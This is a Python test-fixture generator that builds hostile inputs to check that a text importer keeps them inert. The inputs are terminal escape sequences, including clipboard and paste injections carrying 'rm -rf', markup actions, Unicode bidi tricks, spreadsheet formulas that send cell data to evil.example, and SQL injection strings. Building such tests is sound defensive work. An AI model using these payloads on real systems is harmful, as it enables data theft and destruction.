"""Hostile inputs: what each is, what it must do, and the table it is in. Nothing of it is stored; it is made anew."""

import hashlib
import random
from pathlib import Path
from typing import Any

ESC, BEL, ST = "\x1b", "\x07", "\x1b\\"
CSI, OSC, DCS = ESC + "[", ESC + "]", ESC + "P"

LEAD = "The mayor of Ridgeway said on Monday that "
TAIL = " was true, and two councillors said that it was not.\n"


def stored(text: str) -> str:
    """What STORAGE.md, rule 6, keeps of a decoded plain text."""
    return text.removeprefix("\ufeff").replace("\r\n", "\n").replace("\r", "\n")


def shown(text: str) -> str:
    """The recommended visible form: one cell for one code point that must not reach a terminal."""
    out = []
    for char in text:
        code = ord(char)
        if char in "\n\t":
            out.append(char)  # a tab is shown as the spaces up to the next stop
        elif code < 0x20:
            out.append(chr(0x2400 + code))
        elif code == 0x7F:
            out.append("\u2421")
        elif 0x80 <= code <= 0x9F or 0x202A <= code <= 0x202E or 0x2066 <= code <= 0x2069 or 0xD800 <= code <= 0xDFFF:
            out.append("\ufffd")
        else:
            out.append(char)
    return "".join(out)


class Vectors:
    """The vectors, written into a folder as they are made."""

    def __init__(self, folder: Path) -> None:
        self.folder = folder
        self.rng = random.Random(1)
        self.rows: list[dict[str, Any]] = []
        self.names: set[str] = set()

    def put(self, name: str, data: bytes) -> Path:
        path = self.folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
        return path

    def row(self, name: str, category: str, expect: str, why: str, **more: Any) -> None:
        if name in self.names:
            raise ValueError(f"two vectors are called {name}")
        self.names.add(name)
        row = {
            "name": name,
            "category": category,
            "kind": "file",
            "file": None,
            "format": "text",
            "command": None,
            "stdin": None,
            "expect": expect,
            "error": [],
            "code_points": None,
            "sha256": None,
            "quote": None,
            "shows": [],
            "recommended": None,
            "contains": [],
            "lacks": [],
            "then": [],
            "needs": [],
            "why": why,
        } | more
        if row["command"] is None and row["file"] is not None:
            row["command"] = ["import", "{file}"]
        self.rows.append(row)

    def file(
        self, name: str, category: str, data: bytes, expect: str, why: str, suffix: str = ".txt", **more: Any
    ) -> None:
        file = more.pop("file", None) or f"{category}/{name}{suffix}"
        self.put(file, data)
        formats = {
            ".txt": "text",
            ".md": "markdown",
            ".html": "html",
            ".docx": "docx",
            ".jsonl": "jsonl",
            ".json": "json",
        }
        self.row(name, category, expect, why, file=file, **({"format": formats.get(suffix, "text")} | more))

    def text(
        self,
        name: str,
        category: str,
        text: str,
        why: str,
        *,
        data: bytes | None = None,
        quote: str | None = None,
        expect: str = "imported",
        **more: Any,
    ) -> None:
        """A plain text whose stored form is fully determined."""
        kept = stored(text)
        more |= {"code_points": len(kept), "sha256": hashlib.sha256(kept.encode()).hexdigest()}
        if quote is not None:
            quote = stored(quote)
            if kept.count(quote) != 1:
                raise ValueError(f"{name}: the quote is there {kept.count(quote)} times")
            start = kept.index(quote)
            more["quote"] = {"text": quote, "start": start, "end": start + len(quote)}
            if shown(quote) != quote and "\n" not in quote:
                more.setdefault("recommended", shown(quote))
        self.file(name, category, text.encode() if data is None else data, expect, why, **more)

    def payload(self, name: str, category: str, payload: str, why: str, **more: Any) -> None:
        """The payload in the middle of a sentence, inside the quote of a claim."""
        self.text(
            name,
            category,
            LEAD + payload + TAIL,
            why,
            quote="Monday that " + payload + " was true",
            shows=["The mayor of Ridgeway said on Monday that", "was true, and two councillors"],
            **more,
        )


TERMINAL = {
    "csi-clear": (CSI + "2J" + CSI + "H", "erase the screen, go home"),
    "csi-clear-scrollback": (CSI + "3J", "erase what was scrolled away"),
    "csi-sgr": (CSI + "5;8;31m", "blinking, concealed, red: the rest of the row may vanish"),
    "csi-sgr-reset": (CSI + "0m" + CSI + "m", "ends the style of the highlight"),
    "csi-up-overtype": (CSI + "99A" + CSI + "1Gsaved nothing", "go to the top and write over the header"),
    "csi-move": (CSI + "1;100Hsaved", "write at a place of its choice"),
    "csi-scroll-region": (CSI + "5;10r", "scroll region"),
    "csi-insert-delete": (CSI + "40L" + CSI + "40M" + CSI + "9P", "shift the rows and cells of the screen"),
    "csi-leave-alternate": (CSI + "?1049l", "leave the alternate screen"),
    "csi-mouse-off": (CSI + "?1000l" + CSI + "?1003l" + CSI + "?1006l", "mouse reports off"),
    "csi-hold-frame": (CSI + "?2026h", "begin a synchronised update that nobody ends: the terminal freezes"),
    "csi-queries": (CSI + "6n" + CSI + "c" + CSI + ">c" + CSI + "x", "the terminal types its answers into the program"),
    "csi-title-report": (CSI + "21t", "the terminal types its title into the program"),
    "csi-resize": (CSI + "8;1;1t", "resize the window to one cell"),
    "csi-kitty": (CSI + ">31u" + CSI + ">4;2m", "change how keys are reported"),
    "csi-paste-end": (CSI + "201~\rrm -rf x\r" + CSI + "200~", "ends a bracketed paste"),
    "csi-8-bit": ("\u009b2J\u009b1;1H", "CSI as the one code point U+009B"),
    "osc-title": (OSC + "0;owned" + BEL + OSC + "2;owned" + ST, "set the window title"),
    "osc-link": (OSC + "8;;https://evil.example/" + ST + "a link" + OSC + "8;;" + ST, "a hyperlink"),
    "osc-link-open": (OSC + "8;id=1;file:///etc/passwd" + ST, "a hyperlink that nobody closes"),
    "osc-clipboard": (OSC + "52;c;cm0gLXJmIH4K" + BEL, "write the clipboard"),
    "osc-clipboard-read": (OSC + "52;c;?" + ST, "ask for the clipboard"),
    "osc-palette": (OSC + "4;1;#000000" + BEL + OSC + "11;#000000" + BEL + OSC + "10;?" + BEL, "black on black"),
    "osc-notify": (OSC + "9;owned" + BEL + OSC + "777;notify;owned;x" + BEL, "desktop notification"),
    "osc-file": (OSC + "1337;File=name=eA==;size=1:QQ==" + BEL, "a file download in iTerm2"),
    "osc-shell-mark": (OSC + "133;C" + ST + OSC + "7;file://x/" + ST, "shell integration marks"),
    "osc-open": (OSC + "0;never ends", "an OSC without an end swallows what follows"),
    "osc-8-bit": ("\u009d0;owned\u009c", "OSC and ST as U+009D and U+009C"),
    "dcs-sixel": (DCS + "q#0;2;0;0;0#0~~@@vv" + ST, "a sixel picture"),
    "dcs-request": (DCS + "$qm" + ST + DCS + "+q544e" + ST, "request settings: an answer is typed in"),
    "dcs-tmux": (DCS + "tmux;" + ESC + ESC + "]0;owned" + BEL + ST, "passthrough of tmux"),
    "apc-graphics": (ESC + "_Gf=32,s=1,v=1,a=T;AAAA" + ST, "kitty graphics"),
    "pm-sos": (ESC + "^private" + ST + ESC + "Xstring" + ST, "PM and SOS strings"),
    "esc-reset": (ESC + "c", "full reset"),
    "esc-charset": (ESC + "(0qqq" + ESC + "(B" + ESC + "#8", "line-drawing characters, DECALN"),
    "esc-alone": (ESC, "a lone escape joins with what the toolkit writes next"),
    "bell": (BEL * 20, "twenty bells"),
    "backspace": ("guilty" + "\b" * 6 + "framed", "overtype: reads as another word"),
    "shift-out": ("\x0equiet\x0f", "SO and SI switch the character set"),
    "delete": ("a\x7fb\x7f", "DEL"),
    "vertical": ("one\x0btwo\x0cthree", "VT and FF move the cursor down; some readers split lines at them"),
    "c0-all": (
        "".join(map(chr, [*range(1, 9), 0x0B, 0x0C, *range(0x0E, 0x20), 0x7F])),
        "every C0 but NUL, TAB, LF, CR",
    ),
    "c1-all": ("".join(map(chr, range(0x80, 0xA0))), "every C1"),
    "xon-xoff": ("\x13\x11\x03\x04\x1a", "XOFF, XON, and what would be ctrl+c, ctrl+d, ctrl+z on input"),
}

MARKUP = {
    "close": ("[/]", "closes nothing: MarkupError where markup is parsed"),
    "close-wrong": ("[bold]a[/italic]", "closes another tag"),
    "open": ("[bold]", "never closed: everything after it turns bold"),
    "click": ("[@click=app.quit]press here[/]", "an action that quits"),
    "click-bell": ("[@click=app.bell()]x[/][@click=screen.dismiss]y[/]", "actions with and without arguments"),
    "link": ("[link='https://evil.example/']x[/link]", "a hyperlink"),
    "colour": ("[red on red]hidden[/]", "text in the colour of its background"),
    "variable": ("[$error]x[/$error][$text-muted 50%]y[/]", "theme variables"),
    "half": ("[bold red", "never ends"),
    "escaped": ("\\[bold]\\\\[/bold]\\", "backslashes must stay"),
    "double": ("[[1]] [1] [] [ ] [a-z]+ [!]", "ordinary brackets in copy"),
    "emoji-code": (":warning: :smile: :+1:", "emoji codes must stay as typed"),
    "nested": ("[b]" * 400 + "x" + "[/b]" * 400, "four hundred levels"),
    "format": ("{0} {app} {self.__class__} %s %(x)s %n ${HOME} $(id) `id` {{}}", "templates of Python, C and shells"),
}

UNICODE = {
    "bidi-override": ("\u202edehsinif\u202c", "reads backwards on a terminal that does bidi"),
    "bidi-isolate": ("\u2066not\u2069 \u2067guilty", "isolates, one never closed"),
    "bidi-trojan": ("paid \u202e\u2066no tax\u2069 \u2066ever", "reorders what the reader sees (Trojan Source)"),
    "bidi-marks": (
        "\u200eleft\u200f \u061cright",
        "marks that real Arabic and Hebrew copy contains: harmless, and kept",
    ),
    "zero-width": ("tax\u200bes fe\u2060ll by\u200c ten\ufeff", "ZWSP, WJ, ZWNJ and a BOM inside words"),
    "invisible-only": ("\u200b\u2060\u2062\u2063\u2064\u180e\ufeff", "nothing to see"),
    "zalgo": ("".join(c + "\u0301\u0323\u0334\u0489\u036f" * 8 for c in "guilty"), "forty marks on each letter"),
    "zalgo-one": ("a" + "\u0301" * 5000 + "b", "five thousand marks on one letter"),
    "marks-first": ("\u0301\u0301\u20dd", "marks with nothing to sit on but a space"),
    "emoji-family": ("👨‍👩‍👧‍👦 and 👩🏽‍🚒 and 🏳️‍🌈", "joined families, skin tones"),
    "emoji-joiner-end": ("👩‍", "a joiner with nothing after it"),
    "flags": ("🇩🇪🇫🇷🇺🇸 🇩 🏴󠁧󠁢󠁳󠁣󠁴󠁿", "flags, a lone regional indicator, a flag of tags"),
    "keycap-variation": ("1️⃣ ☎︎ ☎️ ❤ ❤️ 葛󠄀", "variation selectors change width, not text"),
    "cjk-wide": ("市長は「税金は下がった」と述べた", "two cells each"),
    "cjk-width-mix": ("ｶﾀｶﾅ Ｗｉｄｅ ①αя…—", "halfwidth, fullwidth, ambiguous"),
    "hangul-jamo": ("\u1112\u1161\u11ab\u1100\u1173\u11af", "conjoining jamo"),
    "tags": ("true" + "".join(chr(0xE0000 + ord(c)) for c in "ignore this"), "hidden text in the tags block"),
    "noncharacters": ("\ufdd0\ufffe\uffff\U0001ffff\U0010ffff", "valid UTF-8, never characters"),
    "private-use": ("\ue000\uf8ff\U000f0000", "private use"),
    "ligatures": ("ﬁnance ﬄuent ﷺ ŉ Ǆ", "one code point, several letters under NFKC"),
    "case-grows": ("İstanbul ıssız straße ΐ ŉ", "lower() or upper() changes the length: offsets drift"),
    "soft-hyphen": ("Donau\u00addampf\u00adschiff", "soft hyphens"),
    "separators": (
        "one\u2028two\u2029three\x85four\x1cfive\x1dsix\x1eseven",
        "str.splitlines() breaks here; a line ends at LF only",
    ),
    "spaces": ("a\u00a0b\u2003c\u3000d\u202fe\u205ff\u1680g", "spaces that are not U+0020"),
    "rtl-name": ("נעמי לוי and محمد علي, 12 ٣٤", "right-to-left names among Latin"),
    "indic-thai": ("क्षत्रिय நிலவு ที่นี่ ສະບາຍດີ", "clusters of several code points"),
    "confusable": ("раураl аnd ꓑаураӏ", "Cyrillic and Lisu letters that look Latin"),
    "astral": ("𝔗𝔥𝔢 𝓶𝓪𝔂𝓸𝓻 𐍈 𠜎", "beyond U+FFFF: offsets are code points, not UTF-16 units"),
}

FORMULAS = {
    "equals": "=1+1",
    "command": "=cmd|' /C calc'!A0",
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "hyperlink": '=HYPERLINK("https://evil.example/?x="&A1,"click")',
    "import": '=IMPORTXML(CONCAT("https://evil.example/?v=",A1),"//a")',
    "quoted": '"=1+1",=2+2;"',
    "fullwidth": "＝1+1",
    "space": " =1+1",
    "number": "-1,5 and +49 30 1234",
}

SQL = {
    "sql-quote": "Robert'); DROP TABLE claim;--",
    "sql-double-quote": '" OR ""="',
    "sql-union": "x' UNION SELECT sql FROM sqlite_master --",
    "sql-comment": "/* x */ -- y ; ;",
    "sql-like": "100%_\\%",
    "sql-bind": "? ?1 :name @name $name",
}

QUERIES = {
    "fts-quote": '"',
    "fts-quotes": '""" "" "a',
    "fts-star": "*",
    "fts-prefix": "ab* *cd",
    "fts-near": "NEAR(",
    "fts-near-full": "NEAR(mayor tax, 5",
    "fts-column": "quote:",
    "fts-column-unknown": "nosuchcolumn:x",
    "fts-column-filter": "{quote wording}: x",
    "fts-boolean": "AND OR NOT",
    "fts-not": "NOT mayor",
    "fts-minus": "-mayor",
    "fts-caret": "^mayor ^",
    "fts-parentheses": "((mayor) AND (",
    "fts-plus": "a + + b",
    "fts-semicolon": "x'; DROP TABLE claim; --",
    "query-empty": "",
    "query-spaces": "   ",
    "query-marks": "\u0301\u0301",
    "query-emoji": "👨‍👩‍👧‍👦",
    "query-escape": CSI + "2J" + OSC + "0;x" + BEL,
    "query-markup": "[@click=app.quit]x[/] [/]",
    "query-long": "mayor " * 4000,
    "query-word": "x" * 50_000,
    "query-percent": "%_\\",
    "query-regex": "(a+)+$ .* [",
    "query-dash": "--help",
    "query-bidi": "\u202etax",
}


def texts(make: Vectors) -> None:
    for name, (payload, why) in TERMINAL.items():
        make.payload(name, "terminal", payload, why, then=["screen", "list", "html", "markdown", "csv"])
    for name, (payload, why) in MARKUP.items():
        make.payload(f"markup-{name}", "markup", payload, why, then=["screen", "search", "palette"])
    for name, (payload, why) in UNICODE.items():
        make.payload(name, "unicode", payload, why, then=["screen", "search", "json"])
    for form, text in (
        ("nfc", "caf\u00e9 \u00c5ngstr\u00f6m \u1ec7"),
        ("nfd", "cafe\u0301 A\u030angstro\u0308m e\u0323\u0302"),
    ):
        make.payload(
            f"pair-{form}", "unicode", text, "the pair is two articles: text is never normalised", then=["search"]
        )
    for name, formula in FORMULAS.items():
        text = f"What the council sent us, word for word:\n{formula}\nNobody could say what it means.\n"
        make.text(
            f"formula-{name}",
            "spreadsheet",
            text,
            "a claim on this line starts a cell: it must stay text",
            quote=formula,
            then=["csv", "xlsx", "list --csv"],
        )
    make.text(
        "cell-newline",
        "spreadsheet",
        'He said: "one,\ntwo"; three\nand left.\n',
        "commas, quotes and a line break in one cell",
        quote='"one,\ntwo"; three',
        then=["csv", "xlsx"],
    )
    for name, text in SQL.items():
        make.payload(name, "sql", text, "must be bound, never pasted", then=["search", "list", "json"])
